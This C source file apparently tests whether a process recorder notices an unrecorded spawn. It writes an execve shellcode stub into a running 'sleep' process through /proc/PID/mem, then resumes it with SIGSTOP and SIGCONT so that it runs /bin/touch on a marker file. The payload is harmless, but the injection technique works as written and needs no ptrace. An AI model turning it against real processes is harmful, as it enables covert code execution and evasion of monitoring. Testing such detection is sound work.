/* Make an unrecorded process spawn for us without ptrace(2): read where run.py's victim (a
 * `sleep` started before the recording) sits from /proc/VICTIM/syscall, write a small execve
 * stub over its `syscall` instruction through /proc/VICTIM/mem (its private copy of libc's
 * text), then SIGSTOP + SIGCONT: the interrupted sleep is restarted at that instruction, runs
 * the stub and execs /bin/touch rtm4_memhijack. */
#include "r4.h"
extern const unsigned char sc_start[], sc_end[];
__asm__(".section .rodata\n"
        "sc_start:\n"
        "  push $0\n"
        "  lea sc_arg(%rip), %rax\n"
        "  push %rax\n"
        "  lea sc_path(%rip), %rdi\n"
        "  push %rdi\n"
        "  mov %rsp, %rsi\n"
        "  xor %edx, %edx\n"
        "  mov $59, %eax\n"
        "  syscall\n"
        "  mov $60, %eax\n"
        "  xor %edi, %edi\n"
        "  syscall\n"
        "sc_path: .asciz \"/bin/touch\"\n"
        "sc_arg: .asciz \"" SCRATCH "/rtm4_memhijack\"\n"
        "sc_end:\n"
        ".text\n");
int main(void)
{
    FILE *f = fopen(SCRATCH "/victim.pid", "r");
    int pid = 0;
    if (!f || fscanf(f, "%d", &pid) != 1)
        DIE("victim.pid");
    fclose(f);
    char path[64], line[512];
    snprintf(path, sizeof path, "/proc/%d/syscall", pid);
    f = fopen(path, "r");
    if (!f || !fgets(line, sizeof line, f))
        DIE("read %s", path);
    fclose(f);
    /* "nr a1 a2 a3 a4 a5 a6 sp pc": the last field is the address after the syscall insn. */
    char *last = strrchr(line, ' ');
    unsigned long pc = strtoul(last + 1, NULL, 16);
    if (!pc)
        DIE("victim not in a syscall: %s", line);
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int mem = open(path, O_RDWR);
    if (mem < 0)
        DIE("open %s", path);
    unsigned char insn[2];
    if (pread(mem, insn, 2, pc - 2) != 2 || insn[0] != 0x0f || insn[1] != 0x05)
        DIE("no syscall instruction before pc");
    size_t n = sc_end - sc_start;
    if (pwrite(mem, sc_start, n, pc - 2) != (ssize_t)n)
        DIE("pwrite stub");
    close(mem);
    kill(pid, SIGSTOP);
    usleep(50000);
    kill(pid, SIGCONT);
    for (int i = 0; i < 100 && access(SCRATCH "/rtm4_memhijack", F_OK) != 0; i++)
        usleep(20000);
    did("wrote a %zu-byte execve stub into victim %d at %#lx via /proc/%d/mem, SIGSTOP+SIGCONT: %s", n, pid, pc - 2, pid,
        access(SCRATCH "/rtm4_memhijack", F_OK) == 0 ? "rtm4_memhijack exists" : "no file");
    return 0;
}
